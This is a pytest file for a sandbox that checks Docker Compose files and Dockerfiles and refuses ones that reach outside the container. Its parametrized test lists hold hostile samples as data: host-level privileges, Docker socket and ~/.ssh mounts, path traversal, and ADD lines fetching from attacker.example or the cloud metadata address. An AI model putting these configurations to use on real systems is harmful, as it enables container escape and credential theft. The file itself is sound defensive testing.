"""A compose file is hostile text: what reaches outside is refused by name, the rest walled in."""

import json
from pathlib import Path

import pytest
import yaml

from sandbox.compose_file import (
    BUILD_LABEL,
    DISK,
    ComposeRefused,
    Plan,
    compose_file,
    plan,
)
from sandbox.compose_project import Project, lay_out
from sandbox.docker_engine import Engine
from sandbox.dockerfile import labelled
from tests.unit.sandbox.rooms import tree_of

GOOD = """
x-base: &base
  image: python:3.12
services:
  test:
    <<: *base
    command: pytest -q --junitxml=out.xml
    working_dir: /app
    environment: {MODE: "${MODE:-ci}", PRICE: "5$$", HOME_OF: "${HOME}"}
    volumes: [".:/app", "cache:/cache", "./conf/app.ini:/etc/app.ini:ro"]
    depends_on: {db: {condition: service_healthy}}
    ports: ["80:80"]
    privileged: false
  db:
    image: postgres:16
    healthcheck: {test: [CMD, pg_isready]}
  web:
    image: web:1
    privileged: true
volumes: {cache: {}}
"""


def planned(text: str, **files: str) -> Plan:
    texts = {"compose.yaml": text, **{path.replace("__", "/"): t for path, t in files.items()}}
    return plan(tree_of(texts), folder="/copy", label="mine")


def test_a_test_service_gets_what_it_needs_and_walls_of_ours() -> None:
    made = planned(GOOD)
    assert (made.test, made.images) == ("test", ("python:3.12", "postgres:16"))
    assert set(made.document["services"]) == {"test", "db"}
    test = made.document["services"]["test"]
    assert test["environment"] == {"MODE": "ci", "PRICE": "5$$", "HOME_OF": ""}
    assert test["volumes"] == ["cache:/cache"]
    assert made.copies == {"test": [(".", "/app"), ("conf/app.ini", "/etc/app.ini")]}
    assert test["cap_drop"] == ["ALL"] and test["security_opt"] == ["no-new-privileges:true"]
    assert test["mem_limit"] and test["pids_limit"] and "ports" not in test
    assert test["ulimits"] == {"fsize": DISK} and test["logging"]["options"]["max-size"]
    assert test["depends_on"] == {"db": {"condition": "service_healthy"}}
    network = made.document["networks"]["default"]
    assert network["internal"] and "inhibit_ipv4" in json.dumps(network)


def test_a_service_alone_has_no_network_at_all() -> None:
    made = planned("services: {anything: {image: 'a:1', command: [make, test]}}")
    assert made.document["services"]["anything"]["network_mode"] == "none"
    assert "networks" not in made.document


REACHING = {
    "privileged": "privileged: true",
    "network_mode": "network_mode: host",
    "pid": "pid: host",
    "ipc": "ipc: host",
    "userns_mode": "userns_mode: host",
    "cap_add": "cap_add: [SYS_ADMIN]",
    "devices": "devices: [/dev/kvm]",
    "security_opt": "security_opt: [seccomp:unconfined]",
    "volumes_from": "volumes_from: ['container:other']",
    "extra_hosts": "extra_hosts: ['host.docker.internal:host-gateway']",
    "extends": "extends: {file: ../other.yaml, service: x}",
    "secrets": "secrets: [token]",
    "cgroup_parent": "cgroup_parent: /",
    "runtime": "runtime: runc",
    "sysctls": "sysctls: {kernel.msgmax: 1}",
    "gpus": "gpus: all",
    "'/var/run/docker.sock'": "volumes: ['/var/run/docker.sock:/var/run/docker.sock']",
    "'../up'": "volumes: ['../up:/x']",
    "'a/../../up'": "volumes: ['a/../../up:/x']",
    "'~/.ssh'": "volumes: ['~/.ssh:/x']",
    "'/etc'": "volumes: ['${NOT_SET:-/etc}:/x']",
    "goes to '/'": "volumes: ['.:/']",
    "no volume 'other'": "volumes: ['other:/x']",
    "a volume asks for npipe": "volumes: [{type: npipe, source: x, target: /x}]",
    "bind": "volumes: [{type: bind, source: ., target: /x, bind: {propagation: shared}}]",
    "'/etc/passwd'": "env_file: /etc/passwd",
}


@pytest.mark.parametrize(("named", "line"), REACHING.items())
def test_what_reaches_outside_is_refused_by_name(named: str, line: str) -> None:
    with pytest.raises(ComposeRefused, match=r"compose.yaml: test") as refused:
        planned(f"services:\n  test:\n    image: a:1\n    {line}\n")
    assert named in refused.value.message


@pytest.mark.parametrize(
    ("build", "said"),
    [
        ("build: ..", "its build context"),
        ("build: https://code.example/x.git", "its build context"),
        ("build: {context: ., network: host}", "its build asks for network"),
        ("build: {context: ., ssh: [default]}", "its build asks for ssh"),
        ("build: {context: ., dockerfile: ../Dockerfile}", "Dockerfile"),
        ("build: {context: ., dockerfile: Variable}", "takes from the variable"),
        ("build: {context: ., dockerfile: Syntax}", "another builder"),
        ("build: {context: ., dockerfile: Escape}", "another escape"),
        ("build: {context: absent}", "there is no absent/Dockerfile"),
    ],
)
def test_a_build_stays_inside_the_repository(build: str, said: str) -> None:
    files = {
        "Variable": "ARG X=evil\nFROM $X\n",
        "Syntax": "# syntax=evil/builder\nFROM a\n",
        "Escape": "# escape=`\nFROM a\n",
    }
    with pytest.raises(ComposeRefused, match=said):
        planned(f"services:\n  test:\n    {build}\n", **files)


@pytest.mark.parametrize(
    "line",
    [
        "ADD http://169.254.169.254/latest/meta-data /x",
        "add --chown=a:b https://attacker.example/ /x",
        "ADD \\\n# between\n\n  http://attacker.example/ /x",
        'ADD ["http\\u003a//attacker.example/", "/x"]',
        "ARG A\nADD $A /x",
        "ADD git@code.example:a/b.git /x",
        "ONBUILD ADD http://attacker.example/ /x",
        "RUN --mount=type=bind,from=evil:1 true",
        "COPY --from=$A / /x",
    ],
)
def test_the_engine_fetches_nothing_for_a_build(line: str) -> None:
    with pytest.raises(ComposeRefused, match="its Dockerfile"):
        planned("services: {test: {build: .}}", Dockerfile=f"FROM a\n{line}\n")


def test_what_a_build_copies_from_must_be_there_already() -> None:
    lines = "FROM a AS One\nADD --chown=1:1 . /x\nFROM b\nCOPY --from=one / /\nCOPY --from=0 / /\n"
    made = planned("services: {test: {build: .}}", Dockerfile=f"{lines}COPY --from=c:1 / /\n")
    assert made.images == ("a", "b", "c:1")


def test_a_build_is_made_of_our_copy_without_network() -> None:
    made = planned(
        "services: {test: {build: {context: app, args: {A: '${B:-1}'}}, image: mine}}",
        app__Dockerfile="FROM base:1 AS one\nFROM one\nFROM scratch\n",
    )
    [service] = made.document["services"].values()
    assert service["build"] == {
        **{"context": "/copy/app", "dockerfile": "Dockerfile", "network": "none"},
        "args": {"A": "1"},
    }
    assert (
        made.dockerfiles == ("app/Dockerfile",)
        and made.images == ("base:1",)
        and "image" not in service
    )


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("include: [other.yaml]\nservices: {test: {image: a}}", "includes other files"),
        ("services: {a: {image: a}, b: {image: b}}", "no service for tests"),
        ("services: {test: {image: a, depends_on: [gone]}}", "no service 'gone'"),
        ("services: [test]", "holds no mapping"),
        ("services: {test: {}}", "neither image nor build"),
        ("a: b: c", "cannot be read"),
        ("volumes: {v: {external: true}}\nservices: {test: {image: a}}", "asks for external"),
        (
            "volumes: {v: {driver_opts: {device: /etc}}}\nservices: {test: {image: a}}",
            "asks for driver_opts",
        ),
        (
            "a: &a [x,x,x,x,x,x,x,x]\n"
            + "".join(
                f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 8)}]\n"
                for n in range(8)
            )
            + "services: {test: {image: a}}",
            "holds too much",
        ),
    ],
)
def test_a_file_that_cannot_be_followed_says_why(text: str, said: str) -> None:
    with pytest.raises(ComposeRefused, match=said):
        planned(text)


def test_the_file_for_tests_goes_before_the_general_one() -> None:
    assert compose_file(tree_of({"compose.yaml": "", "docker-compose.test.yml": ""})) == (
        "docker-compose.test.yml"
    )
    with pytest.raises(ComposeRefused, match="no compose file"):
        plan(tree_of({"a.py": ""}), folder="/copy", label="mine")


def test_nothing_is_left_for_compose_to_fill_in() -> None:
    made = planned("services: {test: {image: a, command: 'echo $$HOME ${X} $$$$'}}")
    assert yaml.safe_dump(dict(made.document)).count("$") == 6
    assert made.document["services"]["test"]["command"] == "echo $$HOME  $$$$"


@pytest.mark.parametrize("quotas", [True, False])
def test_what_compose_is_given_has_quotas_where_the_engine_has_and_labels_on_builds(
    tmp_path: Path, *, quotas: bool
) -> None:
    text = "services: {test: {build: app, depends_on: [db]}, db: {image: a}}"
    tree = tree_of({"compose.yaml": text, "app/Dockerfile": "FROM a\nRUN b\n"})
    project = Project(Engine(), (), tmp_path, {}, "anton-1", DISK)
    lay_out(project, tree, plan(tree, folder=f"{tmp_path}/tree", label="mine"), quotas=quotas)
    services = yaml.safe_load((tmp_path / "compose.yml").read_text())["services"]
    limits = {name: service.get("storage_opt") for name, service in services.items()}
    assert limits == dict.fromkeys(("test", "db"), {"size": str(DISK)} if quotas else None)
    built = (tmp_path / "tree" / "app" / "Dockerfile").read_text()
    assert built == f"FROM a\nLABEL {BUILD_LABEL}=anton-1\nRUN b\n"


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("FROM a\nRUN b", "FROM a\nLABEL k=v\nRUN b\n"),
        (
            "from a AS b\nFROM \\\n# why\n  c\n",
            "from a AS b\nLABEL k=v\nFROM \\\n# why\n  c\nLABEL k=v\n",
        ),
        ("ARG A=1\n\n# FROM x\nFROM a$A\n", "ARG A=1\n\n# FROM x\nFROM a$A\nLABEL k=v\n"),
        ("FROM a\nRUN echo \\\n FROM b\n", "FROM a\nLABEL k=v\nRUN echo \\\n FROM b\n"),
        ("FROM a\nONBUILD RUN b\n", "FROM a\nLABEL k=v\nONBUILD RUN b\n"),
    ],
)
def test_each_stage_of_a_build_is_known_by_a_label_from_its_beginning(
    before: str, after: str
) -> None:
    assert labelled(before, "k", "v") == after
